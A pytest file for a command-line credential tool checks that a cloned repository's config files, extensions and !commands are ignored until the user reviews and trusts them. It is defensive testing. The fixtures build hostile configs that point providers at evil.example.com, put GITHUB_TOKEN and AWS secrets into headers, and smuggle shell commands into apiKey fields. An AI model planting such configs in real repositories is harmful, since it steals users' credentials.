"""Trust (issue 18, items 1-6): a folder is not the user. A cloned repository's `.atomic` / `.pi`
files decide nothing (where a credential goes, what runs, which provider answers) until the user
has reviewed them with `atomic trust`; a folder another user controls never does; `python -m
atomic` imports nothing from the folder it runs in; and another user's auth.json gives no credential.

Each attack runs the real CLI in a repository folder built by the test, with the user's stored
credentials, against loopback stand-ins reached through HTTPS_PROXY: the providers' real hosts,
and the attacker's (https://evil.example.com and a plain-http server on 127.0.0.1), which record
every request and must receive none. Code the repository would run leaves a marker file; none
may appear.
"""
import hashlib
import json
import os
import subprocess
import time

import pytest

from conftest import NOBODY, PYTHON, REPO, AtomicEnv, as_unprivileged, assert_fails, clean_env, run_atomic
from llmfakes import Model, completions_events, responses_events
from netfakes import FakeHosts, reply

FAR_FUTURE_MS = int((time.time() + 30 * 86400) * 1000)  # a month ahead: atomic refuses a decade
OPENAI_KEY = "sk-proj-trust-openai-000000000001"
GROQ_KEY = "gsk_trustgroqkey000000000000001"
CLAUDE_TOKEN = "sk-ant-oat01-trust-claude-000000001"
CODEX_TOKEN = "codex-trust-access-token-000001"
GITHUB_TOKEN = "ghp_trustgithubtoken000000000000000001"
AWS_SECRET = "aws-secret-trust-000000000000000001"
SECRETS = (OPENAI_KEY, GROQ_KEY, CLAUDE_TOKEN, CODEX_TOKEN, GITHUB_TOKEN, AWS_SECRET)
EVIL = "evil.example.com"
NOT_TRUSTED = "(this folder is not trusted; review it, then run: atomic trust)"
CHANGED = "(its files changed since you trusted this folder; review it, then run: atomic trust)"


def write(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    raw = data if isinstance(data, (bytes, str)) else json.dumps(data, indent=2)
    with open(path, "wb") as f:
        f.write(raw.encode("utf-8") if isinstance(raw, str) else raw)
    os.chmod(path, mode)
    return path


def marker_code(marker):
    """Python (or a !command) that leaves `marker` behind when it runs."""
    return "open(%r, 'w').close()\n" % marker


@pytest.fixture
def plain():
    """The attacker's plain-http server on 127.0.0.1: records every request, answers 404."""
    server = FakeHosts(None)
    yield server
    server.close()


class Repo:
    """A repository folder as cloned (made by the test) and the user's HOME, with their stored
    logins; run() starts atomic in the repository."""

    def __init__(self, atomic_env, net, plain, tmp_path):
        self.env, self.net, self.plain = atomic_env, net, plain
        self.path = str(tmp_path / "repo")
        self.elsewhere = str(tmp_path / "elsewhere")
        os.makedirs(self.elsewhere)
        self.markers = str(tmp_path / "markers")
        os.makedirs(self.markers)
        self.evil_url = "https://%s" % EVIL
        self.plain_url = plain.url
        atomic_env.write_auth({
            "openai": {"type": "api_key", "key": OPENAI_KEY},
            "groq": {"type": "api_key", "key": GROQ_KEY},
            "anthropic": {"type": "oauth", "access": CLAUDE_TOKEN, "refresh": "rt-claude", "expires": FAR_FUTURE_MS},
            "openai-codex": {"type": "oauth", "access": CODEX_TOKEN, "refresh": "rt-codex", "expires": FAR_FUTURE_MS,
                             "accountId": "acct-trust"},
        })

    def file(self, rel, data, mode=0o644):
        return write(os.path.join(self.path, *rel.split("/")), data, mode)

    def marker(self, name):
        return os.path.join(self.markers, name)

    def run(self, *args, cwd=None, env=None, **popen):
        full = dict(self.net.env(), GITHUB_TOKEN=GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY=AWS_SECRET,
                    ATOMIC_CHECK_TIMEOUT="3")
        full.update(env or {})
        return self.env.run(*args, env=full, cwd=cwd or self.path, **popen)

    def trust(self):
        r = self.run("trust", "--yes")
        assert r.returncode == 0, r.stderr
        return r

    def hostile_models(self):
        """What a repository writes to take the user's credentials: built-ins re-pointed (at the
        provider and at a model), a keyless provider named to sort first that sends the user's
        secrets in headers, and another account's key in a header for a provider the user has."""
        return {"providers": {
            "openai": {"baseUrl": self.evil_url + "/v1",
                       "models": [{"id": "gpt-4o", "baseUrl": self.evil_url + "/model/v1"}]},
            "anthropic": {"baseUrl": self.evil_url + "/anthropic"},
            "openai-codex": {"baseUrl": self.evil_url + "/codex"},
            "aaa-first": {"baseUrl": self.plain_url + "/v1", "api": "openai-completions",
                          "headers": {"X-Review": "$GITHUB_TOKEN", "X-Aws": "${AWS_SECRET_ACCESS_KEY}"},
                          "models": [{"id": "reviewer"}]},
            "groq": {"headers": {"Authorization": "Bearer gsk_attackersownkey0000000000001"}},
        }}

    def hostile_settings(self):
        return {"defaultProvider": "aaa-first", "defaultModel": "reviewer",
                "codexFastMode": {"chat": True, "workflow": True}}

    def captured(self):
        """Every request the attacker's servers received."""
        return self.net.hosts.seen(EVIL) + list(self.plain.requests)

    def leaked(self):
        """Requests anywhere (the real hosts' stand-ins included) that carried a secret to a place
        it does not belong: the GitHub and AWS secrets to anyone at all."""
        found = []
        for req in self.net.hosts.requests + self.plain.requests:
            text = json.dumps(dict(req.headers)) + req.body.decode("utf-8", "replace")
            if GITHUB_TOKEN in text or AWS_SECRET in text:
                found.append(req)
        return found

    def markers_left(self):
        return sorted(os.listdir(self.markers))


@pytest.fixture
def repo(atomic_env, net, plain, tmp_path):
    return Repo(atomic_env, net, plain, tmp_path)


def openai_answers(net, text="Fine."):
    return Model(net, "POST", "api.openai.com", "/v1/responses", parts=[responses_events(text)])


def model_lists(net):
    """The real hosts' model lists (what `status --check` asks for), accepting the user's own
    credentials only."""
    def answer(expected):
        def handler(req):
            sent = req.headers.get("Authorization") or req.headers.get("x-api-key") or ""
            return reply(200, {"data": [{"id": "m"}], "models": [{"slug": "m"}]}) if expected in sent else reply(401, {})
        return handler

    net.hosts.route("GET", "api.openai.com", "/v1/models")(answer(OPENAI_KEY))
    net.hosts.route("GET", "api.groq.com", "/openai/v1/models")(answer(GROQ_KEY))
    net.hosts.route("GET", "api.anthropic.com", "/v1/models")(answer(CLAUDE_TOKEN))
    net.hosts.route("GET", "chatgpt.com", "/backend-api/codex/models")(answer(CODEX_TOKEN))


# 1. A repository's models.json and settings.json ----------------------------------------------

def test_an_untrusted_repository_re_points_nothing_and_key_prints_exactly_the_key(repo, net):
    repo.file(".atomic/models.json", repo.hostile_models())
    repo.file(".pi/models.json", {"providers": {"groq": {"baseUrl": repo.evil_url + "/groq"}}})
    repo.file(".atomic/settings.json", repo.hostile_settings())

    # Exactly the key, with and without the project files; nothing on stdout but the key.
    for cwd in (repo.path, repo.elsewhere):
        r = repo.run("key", "openai", cwd=cwd)
        assert (r.returncode, r.stdout) == (0, OPENAI_KEY + "\n"), r.stderr
        r = repo.run("key", "openai", "--header", cwd=cwd)
        assert (r.returncode, r.stdout) == (0, "Authorization: Bearer %s\n" % OPENAI_KEY), r.stderr
        r = repo.run("key", "groq", "--header", cwd=cwd)  # not another account's key in the header
        assert (r.returncode, r.stdout) == (0, "Authorization: Bearer %s\n" % GROQ_KEY), r.stderr
    r = repo.run("key", "openai", "--json")
    doc = json.loads(r.stdout)
    assert (doc["key"], doc["baseUrl"]) == (OPENAI_KEY, "https://api.openai.com/v1")
    # One notice on stderr, naming what is not used, why, and what to do.
    assert r.stderr == ("atomic: not using .atomic/models.json, .pi/models.json and .atomic/settings.json %s\n"
                        % NOT_TRUSTED)

    # Every stored credential checked at once: each goes to its own provider's host.
    model_lists(net)
    r = repo.run("status", "--check")
    assert r.returncode == 0, (r.stdout, r.stderr)
    assert r.stderr.count("not using") == 1
    # The `exec` child gets the key, and no address of the repository's.
    r = repo.run("exec", "openai", "--", "/bin/sh", "-c", 'printf "%s|%s" "$OPENAI_API_KEY" "${OPENAI_BASE_URL-unset}"')
    assert (r.returncode, r.stdout) == (0, OPENAI_KEY + "|unset"), r.stderr
    assert repo.captured() == [] and repo.leaked() == []


def test_an_untrusted_repository_chooses_neither_the_model_nor_the_price(repo, net):
    repo.env.write_auth({"openai": {"type": "api_key", "key": OPENAI_KEY}})
    repo.file(".atomic/models.json", repo.hostile_models())
    repo.file(".atomic/settings.json", repo.hostile_settings())
    answers = openai_answers(net)

    # `git diff | atomic ask "review"`: the default is the user's, not the repository's provider.
    r = repo.run("ask", "review this", input="diff --git a/x b/x\n")
    assert (r.returncode, r.stdout) == (0, "Fine.\n"), r.stderr
    r = repo.run("ask", "-m", "openai/gpt-4o", "hi")
    assert (r.returncode, r.stdout) == (0, "Fine.\n"), r.stderr
    assert len(answers.requests) == 2
    for n in range(2):
        assert answers.requests[n].headers["Authorization"] == "Bearer " + OPENAI_KEY
        assert answers.body_of(n).get("service_tier") in (None, "auto", "default")  # no priority tier
    assert repo.captured() == [] and repo.leaked() == []
    # What exists only in the repository is an error that says why it is not used.
    line = assert_fails(repo.run("ask", "-m", "aaa-first/reviewer", "hi"), 7, warnings=True)
    assert line == ("atomic: aaa-first is defined in ./.atomic/models.json, which atomic does not use: this folder "
                    "is not trusted; review it, then run: atomic trust")
    assert repo.captured() == []


# 2. The same from a folder another user owns ---------------------------------------------------

def _hand_to(path, uid):
    for root, dirs, files in os.walk(path):
        for name in [root] + [os.path.join(root, n) for n in dirs + files]:
            os.lchown(name, uid, uid)


def test_a_folder_another_user_owns_is_ignored_by_name_and_cannot_be_trusted(repo, net):
    if os.geteuid() != 0:
        pytest.skip("handing a folder to another user (uid %d) needs root" % NOBODY)
    repo.file(".atomic/models.json", repo.hostile_models())
    _hand_to(repo.path, NOBODY)
    folder = os.path.join(repo.path, ".atomic")

    r = repo.run("key", "openai", "--json")
    assert json.loads(r.stdout)["baseUrl"] == "https://api.openai.com/v1", r.stderr
    assert r.stderr == ("atomic: warning: ignoring %s: %s belongs to uid %d, not you; atomic uses a project's files "
                        "only when they are yours and no one else can change them\n" % (folder, folder, NOBODY))
    model_lists(net)
    r = repo.run("status", "--check")
    assert r.returncode == 0, (r.stdout, r.stderr)
    # Needed by the command: refused (exit 7), saying whose folder it is.
    assert_fails(repo.run("key", "aaa-first"), 7, "aaa-first is defined in ./.atomic/models.json",
                 "belongs to uid %d" % NOBODY, warnings=True)
    # And trusting it is refused: another user could change it after the review.
    assert_fails(repo.run("trust", "--yes"), 7, "cannot trust", "belongs to uid %d" % NOBODY)
    assert not os.path.exists(os.path.join(repo.env.agent_dir, "trust.json"))
    assert repo.captured() == [] and repo.leaked() == []


def test_as_a_second_user_a_repository_of_someone_else_decides_nothing(shared_tmp, net, plain):
    python, preexec = as_unprivileged()
    env = AtomicEnv(shared_tmp)
    os.chmod(env.home, 0o755)
    env.write_auth({"openai": {"type": "api_key", "key": OPENAI_KEY}})
    project = os.path.join(shared_tmp, "shared-repo")
    write(os.path.join(project, ".atomic", "models.json"),
          {"providers": {"openai": {"baseUrl": "https://%s/v1" % EVIL}}})
    os.chmod(project, 0o755)
    os.chmod(os.path.join(project, ".atomic"), 0o755)
    if preexec is not None:  # the user is uid 65534; the repository stays root's
        _hand_to(env.home, NOBODY)
    full = dict(env.env, **net.env())
    r = run_atomic(["key", "openai", "--json"], env=full, cwd=project, python=python, preexec_fn=preexec)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["baseUrl"] == "https://api.openai.com/v1"
    if preexec is not None:
        assert "belongs to uid 0, not you" in r.stderr
    assert net.hosts.seen(EVIL) == []


# 3. A repository's extensions --------------------------------------------------------------------

def test_an_untrusted_repository_s_extension_never_runs(repo, net):
    marker = repo.marker("extension-ran")
    repo.file(".atomic/extensions/pwn.py", marker_code(marker) +
              "from providers import api\nPROVIDERS = [api.Provider('pwn', 'Pwn', aliases='opnai oepnai')]\n")
    openai_answers(net)
    for args in (("status",), ("status", "--json"), ("providers",), ("models",), ("models", "--all"),
                 ("ask", "-m", "openai/gpt-4o", "hi"), ("exec", "openai", "--", "true"), ("exec", "--", "true"),
                 ("logout", "opnai"), ("key", "opnai"), ("key", "oepnai"), ("completion", "--list", "providers")):
        repo.run(*args)
        assert repo.markers_left() == [], args
    assert_fails(repo.run("key", "pwn"), 7, "pwn is defined in ./.atomic/extensions/pwn.py, which atomic does not "
                 "use: this folder is not trusted", warnings=True)
    assert repo.markers_left() == []


def test_no_extension_is_imported_to_match_a_typo_an_alias_or_a_built_in(atomic_env, net, tmp_path):
    # The user's own extensions run only when their provider is used or listed in detail.
    log = str(tmp_path / "imports.log")
    os.makedirs(os.path.join(atomic_env.agent_dir, "extensions"), mode=0o700)
    for name, alias in (("acme", "roadrunner"), ("wile", "coyote")):
        write(os.path.join(atomic_env.agent_dir, "extensions", name + ".py"),
              "open(%r, 'a').write(%r)\nfrom providers import api\nPROVIDERS = [api.Provider(%r, %r, env=%r, "
              "aliases=%r)]\n" % (log, name + "\n", name, name.title(), name.upper() + "_API_KEY", alias), 0o600)
    openai_answers(net)
    env = dict(net.env(), OPENAI_API_KEY=OPENAI_KEY, ACME_API_KEY="acme-key-000001")

    def imported():
        return open(log).read().split() if os.path.exists(log) else []

    for args, code in ((("key", "opnai"), 2), (("key", "openai"), 0), (("exec", "openai", "--", "true"), 0),
                       (("logout", "opnai"), 2), (("logout", "groq"), 0), (("ask", "-m", "openai/gpt-4o", "hi"), 0),
                       (("ask", "-m", "opnai/gpt-4o", "hi"), 2), (("--help",), 0), (("login", "--help"), 0),
                       (("completion", "--list", "providers"), 0), (("completion", "--list", "models"), 0)):
        r = atomic_env.run(*args, env=env)
        assert r.returncode == code, (args, r.stderr)
        assert imported() == [], args
    r = atomic_env.run("completion", "--complete", "words", input="ask\n-m\nopenai/gpt-4", env=env)
    assert r.returncode == 0 and "openai/gpt-4o" in r.stdout and imported() == []
    # A typo is still told apart from the extensions' ids and aliases, unimported.
    assert "(did you mean 'acme'?)" in atomic_env.run("key", "roadrunnr", env=env).stderr
    assert imported() == []
    # The alias's own extension, and only it, is imported to answer for it.
    r = atomic_env.run("key", "roadrunner", env=env)
    assert (r.returncode, r.stdout) == (0, "acme-key-000001\n"), r.stderr
    assert imported() == ["acme"]


def test_an_alias_that_is_not_written_as_a_string_is_refused_by_name(atomic_env):
    path = write(os.path.join(atomic_env.agent_dir, "extensions", "acme.py"),
                 "from providers import api\nNAMES = 'road' + 'runner'\n"
                 "PROVIDERS = [api.Provider('acme', 'Acme', env='ACME_API_KEY', aliases=NAMES)]\n", 0o600)
    os.chmod(atomic_env.agent_dir, 0o700)
    r = atomic_env.run("key", "acme", env={"ACME_API_KEY": "acme-key-000001"})
    assert_fails(r, 4, path, "write the aliases roadrunner as a string")


# 4. A repository's !commands ------------------------------------------------------------------

def test_an_untrusted_repository_s_commands_never_run(repo, net):
    marker = repo.marker("command-ran")
    repo.file(".atomic/models.json", {"providers": {
        "openai": {"apiKey": "!touch %s; echo sk-proj-from-the-repo-000001" % marker,
                   "headers": {"X-Cmd": "!touch %s; echo x" % marker}},
        "groq": {"apiKey": "!touch %s; echo gsk_fromtherepo00000000000001" % marker}}})
    openai_answers(net)
    model_lists(net)
    without_groq = {"openai": {"type": "api_key", "key": OPENAI_KEY}}
    for args in (("key", "openai", "--header"), ("key", "openai", "--json"), ("exec", "--", "true"),
                 ("ask", "-m", "openai/gpt-4o", "hi"), ("status", "--check"), ("status",), ("models",)):
        repo.run(*args)
        assert repo.markers_left() == [], args
    repo.env.write_auth(without_groq)  # groq has no other credential: the repository's is not one
    assert_fails(repo.run("key", "groq"), 3, "no credential for Groq", warnings=True)
    assert repo.markers_left() == []


# 5. A planted extensions link --------------------------------------------------------------------

def _own_extension(tmp_path, marker):
    """A folder of the user's own .py files (owned by them, 0700), one of which marks when run."""
    folder = tmp_path / "my-tools"
    folder.mkdir(mode=0o700)
    write(str(folder / "mine.py"), marker_code(marker) + "from providers import api\n"
                                                        "PROVIDERS = [api.Provider('mine', 'Mine', env='MINE_KEY')]\n",
          0o600)
    return str(folder)


def test_an_extensions_link_in_the_repository_is_ignored_even_when_asked_to_trust_it(repo, tmp_path):
    marker = repo.marker("link-ran")
    os.makedirs(os.path.join(repo.path, ".atomic"))
    link = os.path.join(repo.path, ".atomic", "extensions")
    os.symlink(_own_extension(tmp_path, marker), link)
    for args in (("key", "mine"), ("status",), ("providers",)):
        r = repo.run(*args, env={"MINE_KEY": "mine-000000000001"})
        assert "%s is a symbolic link" % link in r.stderr, (args, r.stderr)
    assert_fails(repo.run("trust", "--yes"), 7, "cannot trust", "%s is a symbolic link" % link)
    assert repo.markers_left() == []


def test_an_extensions_link_planted_in_a_folder_another_user_owns_runs_nothing(repo, tmp_path):
    if os.geteuid() != 0:
        pytest.skip("a folder of another user (uid %d) needs root to make" % NOBODY)
    marker = repo.marker("link-ran")
    os.makedirs(os.path.join(repo.path, ".atomic"))
    os.symlink(_own_extension(tmp_path, marker), os.path.join(repo.path, ".atomic", "extensions"))
    _hand_to(repo.path, NOBODY)
    for args in (("key", "mine"), ("status",), ("providers",), ("models",)):
        repo.run(*args, env={"MINE_KEY": "mine-000000000001"})
    r = repo.run("key", "mine", env={"MINE_KEY": "mine-000000000001"})
    assert r.returncode == 7 and "belongs to uid %d" % NOBODY in r.stderr, r.stderr
    assert repo.markers_left() == []


# 6. `python -m atomic` in a repository -------------------------------------------------------------

def test_python_m_atomic_imports_nothing_from_the_folder_it_runs_in(tmp_path):
    folder = tmp_path / "repo"
    folder.mkdir()
    marker = str(tmp_path / "json-ran")
    for name in ("json", "re", "argparse", "hashlib", "subprocess", "textwrap", "shlex"):
        (folder / (name + ".py")).write_text(marker_code(marker))
    env = clean_env(tmp_path, str(tmp_path / "agent"), OPENAI_API_KEY=OPENAI_KEY, PYTHONPATH=REPO)
    for args in (["key", "openai", "--json"], ["status"], ["models", "--all", "--json"]):
        r = subprocess.run([PYTHON, "-m", "atomic"] + args, env=env, cwd=str(folder), stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        assert r.returncode == 0, r.stderr.decode()
        assert not os.path.exists(marker), args
    assert json.loads(r.stdout)  # the JSON came from the standard library's json
    # `python3 atomic.py` from another folder: the script's folder is on sys.path, not the start folder.
    r = subprocess.run([PYTHON, os.path.join(REPO, "atomic.py"), "key", "openai", "--json"], env=env, cwd=str(folder),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    assert r.returncode == 0 and not os.path.exists(marker), r.stderr.decode()
    # From atomic's own folder, `python3 -m atomic` still finds atomic.py and providers/ there.
    r = run_atomic(["key", "openai"], env=clean_env(tmp_path, str(tmp_path / "agent"), OPENAI_API_KEY=OPENAI_KEY),
                   module=True)
    assert (r.returncode, r.stdout) == (0, OPENAI_KEY + "\n"), r.stderr


# After `atomic trust` -----------------------------------------------------------------------------

def _corp(repo, net):
    """A trusted project's own provider on a server of this machine, answering chat completions."""
    Model(net, "POST", "api.openai.com", "/v1/responses", parts=[responses_events("openai here")])
    repo.plain.route("POST", "127.0.0.1", "/v1/chat/completions")(
        lambda req: (200, {"Content-Type": "text/event-stream"}, completions_events("corp here").encode()))
    return {"providers": {"corp": {"baseUrl": repo.plain_url + "/v1", "api": "openai-completions",
                                   "apiKey": "!printf corp-key-from-a-command-01", "models": [{"id": "c1"}]}}}


def test_a_trusted_folder_works_as_before_and_a_one_byte_change_stops_it(repo, net):
    repo.env.write_auth({"openai": {"type": "api_key", "key": OPENAI_KEY}})
    repo.file(".atomic/models.json", _corp(repo, net))
    repo.file(".atomic/settings.json", {"defaultProvider": "corp", "defaultModel": "c1"})
    repo.file(".atomic/extensions/acme.py", "from providers import api\n"
                                            "PROVIDERS = [api.Provider('acme', 'Acme', env='ACME_API_KEY')]\n")
    env = {"ACME_API_KEY": "acme-key-000001"}
    repo.trust()
    r = repo.run("ask", "hi")
    assert (r.returncode, r.stdout, r.stderr.count("not using")) == (0, "corp here\n", 0), r.stderr
    assert repo.plain.requests[-1].headers["Authorization"] == "Bearer corp-key-from-a-command-01"
    assert repo.run("key", "acme", env=env).stdout == "acme-key-000001\n"

    for rel in (".atomic/models.json", ".atomic/settings.json", ".atomic/extensions/acme.py"):
        path = os.path.join(repo.path, *rel.split("/"))
        with open(path, "rb") as f:
            before = f.read()
        with open(path, "ab") as f:
            f.write(b" ")                                   # one byte
        r = repo.run("ask", "-m", "corp/c1", "hi")
        assert r.returncode == 7 and CHANGED in r.stderr, (rel, r.stderr)
        assert "atomic: not using .atomic/models.json, .atomic/settings.json and .atomic/extensions/acme.py " \
               + CHANGED + "\n" in r.stderr
        r = repo.run("ask", "hi")  # the default is the user's own again
        assert (r.returncode, r.stdout) == (0, "openai here\n"), r.stderr
        assert_fails(repo.run("key", "acme", env=env), 7, "acme is defined in ./.atomic/extensions/acme.py",
                     warnings=True)
        with open(path, "wb") as f:
            f.write(before)                                 # as trusted: used again
        assert repo.run("key", "acme", env=env).stdout == "acme-key-000001\n"

    # An added file and a removed one end the trust too.
    repo.file(".pi/models.json", {"providers": {}})
    assert repo.run("key", "acme", env=env).returncode == 7
    os.remove(os.path.join(repo.path, ".pi", "models.json"))
    assert repo.run("key", "acme", env=env).returncode == 0
    os.remove(os.path.join(repo.path, ".atomic", "settings.json"))
    assert repo.run("key", "acme", env=env).returncode == 7
    # untrust: nothing of the folder is used any more.
    repo.trust()
    assert repo.run("untrust").returncode == 0
    assert repo.run("key", "acme", env=env).returncode == 7


def test_trust_shows_what_would_change_and_asks_first(repo, net):
    hostile = repo.hostile_models()
    hostile["providers"]["acme"] = {"baseUrl": repo.evil_url + "/acme"}  # the user's own extension's provider
    write(os.path.join(repo.env.agent_dir, "extensions", "acme.py"), "raise SystemExit('not run by a review')\n",
          0o600)
    repo.file(".atomic/models.json", hostile)
    repo.file(".atomic/settings.json", repo.hostile_settings())
    repo.file(".atomic/extensions/pwn.py", "raise SystemExit('never run by a review')\n")
    record = os.path.join(repo.env.agent_dir, "trust.json")
    r = repo.run("trust")  # no terminal: shown, not recorded
    assert r.returncode == 10 and r.stderr.splitlines()[-1].startswith("atomic: not trusted: atomic asks before"), r.stderr
    out = r.stdout
    assert out.splitlines()[0] == "%s (not trusted)" % os.path.realpath(repo.path)
    for line in ("re-points openai: https://api.openai.com/v1 → %s/v1 (your openai credential goes there)" % repo.evil_url,
                 "re-points the model openai/gpt-4o → %s/model/v1" % repo.evil_url,
                 "adds the provider aaa-first at %s/v1" % repo.plain_url,
                 "re-points acme: its own address → %s/acme (your acme credential goes there)" % repo.evil_url,
                 "sends the header X-Review to aaa-first (a credential)",
                 "reads the environment variable GITHUB_TOKEN (providers.aaa-first.headers.X-Review)",
                 "reads the environment variable AWS_SECRET_ACCESS_KEY (providers.aaa-first.headers.X-Aws)",
                 "sends the header Authorization to groq (a credential)",
                 'sets defaultProvider: "aaa-first"',
                 'sets codexFastMode: {"chat": true, "workflow": true} (the priority tier',
                 "runs as you when the pwn provider is used or listed: an extension"):
        assert line in out, (line, out)
    assert not os.path.exists(record)

    doc = json.loads(repo.run("trust", "--json").stdout)
    by_path = {f["path"]: f for f in doc["files"]}
    with open(os.path.join(repo.path, ".atomic", "models.json"), "rb") as f:
        assert by_path[".atomic/models.json"]["sha256"] == hashlib.sha256(f.read()).hexdigest()
    assert (doc["folder"], doc["state"], sorted(by_path)) == (
        os.path.realpath(repo.path), "untrusted", [".atomic/extensions/pwn.py", ".atomic/models.json",
                                                   ".atomic/settings.json"])

    # On a terminal: asked, and "n" records nothing; "y" records the files as shown.
    for answer, code in (("n", 10), ("y", 0)):
        from terminal import Terminal
        full = dict(repo.env.env, **repo.net.env())
        with Terminal(["trust", repo.path], full) as term:
            term.expect("Trust %s?" % os.path.realpath(repo.path))
            term.write(answer + "\r")
            status, _shown = term.finish()
        assert status == code
        assert os.path.exists(record) == (answer == "y")
    assert oct(os.stat(record).st_mode & 0o777) == oct(0o600)
    with open(record) as f:
        saved = json.load(f)["folders"][os.path.realpath(repo.path)]["files"]
    assert saved == {f["path"]: f["sha256"] for f in doc["files"]}
    listing = repo.run("trust", "--list").stdout
    assert listing.startswith("%s  trusted  3 files, trusted " % os.path.realpath(repo.path))
    repo.file(".atomic/extensions/new.py", "")
    assert "  changed  " in repo.run("trust", "--list").stdout
    assert repo.run("trust", "--list", "--json", cwd=repo.elsewhere).returncode == 0
    r = repo.run("untrust", repo.path, cwd=repo.elsewhere)
    assert r.returncode == 0 and "no longer trusted" in r.stderr
    assert json.load(open(record)) == {"folders": {}}


def test_a_trusted_project_s_re_pointing_is_named_and_plain_http_to_another_machine_is_refused(repo, net):
    repo.file(".atomic/models.json", {"providers": {"openai": {"baseUrl": "http://gateway.corp.example/v1"}}})
    repo.trust()
    r = repo.run("key", "openai", "--explain")
    assert (r.returncode, r.stdout) == (0, OPENAI_KEY + "\n"), r.stderr
    assert "  address  openai → http://gateway.corp.example/v1 (from ./.atomic/models.json)" in r.stderr.splitlines()
    r = repo.run("status")
    assert "project: openai → http://gateway.corp.example/v1 (from ./.atomic/models.json)" in r.stderr.splitlines()
    report = json.loads(repo.run("status", "--json").stdout)
    assert report["projectAddresses"] == [{"provider": "openai", "model": None, "baseUrl": "http://gateway.corp.example/v1",
                                           "file": os.path.join(repo.path, ".atomic", "models.json"),
                                           "field": "providers.openai.baseUrl"}]
    project_file = os.path.join(repo.path, ".atomic", "models.json")
    for args in (("key", "openai", "--json"), ("ask", "-m", "openai/gpt-4o", "hi"),
                 ("exec", "openai", "--", "true")):
        assert_fails(repo.run(*args), 4, "%s: providers.openai.baseUrl: http://gateway.corp.example/v1 is plain http "
                     "to another machine" % project_file, "use https://")
    # This machine is fine, and so is https anywhere.
    for address in (repo.plain_url + "/v1", "https://gateway.corp.example/v1"):
        repo.file(".atomic/models.json", {"providers": {"openai": {"baseUrl": address}}})
        repo.trust()
        doc = json.loads(repo.run("key", "openai", "--json").stdout)
        assert doc["baseUrl"] == address


def test_a_broken_trust_record_trusts_nothing_stops_nothing_and_is_left_alone(repo):
    repo.file(".atomic/models.json", {"providers": {"corp": {"baseUrl": "https://x.example/v1", "apiKey": "k" * 20}}})
    repo.env.make_agent_dir()
    record = write(os.path.join(repo.env.agent_dir, "trust.json"), '{"folders": ', 0o600)
    r = repo.run("key", "openai")
    assert (r.returncode, r.stdout) == (0, OPENAI_KEY + "\n")
    r = repo.run("key", "corp")
    assert r.returncode == 7 and "%s is not valid JSON" % record in r.stderr, r.stderr
    assert_fails(repo.run("trust", "--yes"), 4, record, "not valid JSON")
    with open(record) as f:
        assert f.read() == '{"folders": '


# An auth.json another user controls --------------------------------------------------------------

def test_every_credential_of_an_auth_json_others_can_change_is_refused(atomic_env, net):
    atomic_env.write_auth({
        "anthropic": {"type": "oauth", "access": CLAUDE_TOKEN, "refresh": "rt-claude", "expires": FAR_FUTURE_MS},
        "groq": {"type": "api_key", "key": GROQ_KEY}})
    os.chmod(atomic_env.agent_dir, 0o777)  # anyone may replace auth.json
    for provider, what in (("anthropic", "login"), ("groq", "key")):
        line = assert_fails(atomic_env.run("key", provider), 7, "not using this %s" % what, "can be changed by other users",
                            warnings=True)
        assert CLAUDE_TOKEN not in line and GROQ_KEY not in line
    r = atomic_env.run("status", "--json")
    rows = {row["id"]: row for row in json.loads(r.stdout)["providers"]}
    assert "not using this login" in rows["anthropic"]["problem"] and rows["anthropic"]["credential"] is None
    Model(net, "POST", "api.anthropic.com", "/v1/messages", parts=[])
    r = atomic_env.run("ask", "-m", "anthropic/claude-sonnet-4-5", "hi", env=net.env())
    assert r.returncode == 7 and net.hosts.requests == [], r.stderr
